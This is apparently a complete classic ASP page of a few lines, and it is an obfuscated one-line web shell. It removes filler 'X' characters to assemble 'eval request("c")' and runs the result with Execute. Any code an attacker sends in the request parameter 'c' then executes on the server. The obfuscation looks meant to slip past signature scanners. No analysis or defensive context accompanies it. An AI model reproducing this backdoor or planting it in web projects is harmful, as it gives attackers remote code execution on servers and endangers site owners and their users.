<%
x = Replace("evXal reqXuest(""c"")", "X", "")
Execute x
%>
